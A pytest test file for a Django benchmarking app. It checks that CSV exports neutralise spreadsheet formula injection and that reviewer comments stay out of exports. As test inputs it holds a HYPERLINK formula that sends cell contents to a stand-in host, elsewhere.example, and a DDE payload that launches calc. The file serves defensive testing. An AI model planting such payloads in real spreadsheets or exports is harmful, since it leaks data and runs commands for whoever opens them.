"""What leaves the installation: nothing a spreadsheet runs, and nothing of what people said about the runs."""

from __future__ import annotations

import ast
import csv
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.utils import timezone

from benchapp.exports.export_run import FORMATS, Export
from benchapp.exports.formats import FORMULA, escape_formula
from benchapp.models import Trial
from benchapp.review.comments import CommentPlace, write_comment
from benchapp.stats.comparing.choices import Choices
from tests.worlds.factories import make_experiment, make_learning_run, make_suite, make_user
from tests.worlds.review_factories import make_queue, make_review, make_version

ROOT = Path(__file__).resolve().parents[3]
ATTACK = '=HYPERLINK("https://elsewhere.example/?"&A1)'


@pytest.mark.parametrize("start", FORMULA)
def test_a_text_that_begins_like_a_formula_is_not_run(start: str) -> None:
    assert escape_formula(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("text", ["-3.2", "-", "+7", "-1e-05", "0.5", "", "no-skill", "a=b", "'quoted'"])
def test_numbers_and_other_texts_stay_as_they_are(text: str) -> None:
    assert escape_formula(text) == text


@pytest.mark.parametrize("text", ["-3.2+1", "+1;=x", "-２", "-1\n=x"])
def test_what_only_begins_like_a_number_is_no_number(text: str) -> None:
    assert escape_formula(text) == f"'{text}"


@pytest.mark.django_db
def test_no_csv_of_the_site_runs_a_condition(client: Client) -> None:
    suite = make_suite(environments=1, families=1)
    experiment = make_experiment(suite=suite, name="@SUM(1)")
    make_learning_run(experiment, condition="no-skill", author_model="")
    make_learning_run(experiment, condition=ATTACK, agent_model="+1+cmd")
    urls = [f"/compare/export/{what}.csv" for what in ("trials", "aggregates", "differences")]
    urls += ["/compare/charts/forest.csv", "/compare/charts/tokens.csv"]
    seen = ""
    for url in urls:
        response = client.get(url)
        if response.status_code == 404:
            continue
        text = b"".join(response.streaming_content).decode() if response.streaming else response.text  # type: ignore[attr-defined]
        seen += text
        for row in csv.reader(StringIO(text)):
            assert not [cell for cell in row if escape_formula(cell) != cell], url
    assert f"'{ATTACK[:5]}" in seen


@pytest.mark.django_db
def test_the_command_neither() -> None:
    out = StringIO()
    call_command("published", csv=True, stdout=out)
    rows = list(csv.reader(StringIO(out.getvalue())))
    assert len(rows) > 100
    assert not [cell for row in rows for cell in row if escape_formula(cell) != cell]


def test_every_csv_writer_uses_the_one_function() -> None:
    writers = []
    for layer in ("benchapp", "inspector"):
        for path in (ROOT / layer).rglob("*.py"):
            calls = [node.func for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)]
            names = {ast.unparse(func) for func in calls}
            if names & {"csv.writer", "csv.DictWriter"}:
                writers.append(path)
                assert "escape_formula" in names, f"{path.relative_to(ROOT)} writes CSV without escape_formula"
    assert len(writers) >= 3


SAID = "a word that must stay inside"


@pytest.fixture
def spoken_of() -> dict[tuple[str, str], bytes]:
    """Every export before anybody said anything; then everything that can be said is said of every trial."""
    suite = make_suite(environments=1, families=1)
    experiment = make_experiment(suite=suite)
    for condition in ("no-skill", "selfgen-always"):
        make_learning_run(experiment, condition=condition, author_model="")
    before = exports()
    reviewer, other = make_user(), make_user(username="mentioned")
    queue = make_queue(list(Trial.objects.all()), version=make_version([SAID]), reviewers=[reviewer], name=SAID)
    for item in queue.items.all():
        make_review(item, reviewer, [SAID], memo=SAID, mark={"memo": SAID} if _mark_has_memo() else None)
        place = CommentPlace("step", f"trial {item.trial.public_id} x step 1", "/", "Step 1", trial=item.trial)
        write_comment(place, reviewer, f"{SAID} @{other.username}")
    return before


def _mark_has_memo() -> bool:
    from benchapp.models import Mark

    return "memo" in {field.name for field in Mark._meta.get_fields()}


def exports() -> dict[tuple[str, str], bytes]:
    moment = Choices(as_of=timezone.now())
    found = {}
    for what in ("trials", "aggregates", "differences"):
        for form in FORMATS:
            target = BytesIO()
            Export(what, moment).write(target, form)
            found[what, form] = target.getvalue()
    return found


@pytest.mark.django_db
def test_an_export_of_runs_says_nothing_of_what_people_said(spoken_of: dict[Any, bytes], client: Client) -> None:
    after = exports()
    for (what, form), content in after.items():
        assert SAID.encode() not in content, (what, form)
        if form == "csv":
            assert content == spoken_of[what, form]
    assert SAID not in client.get("/compare/report/").text
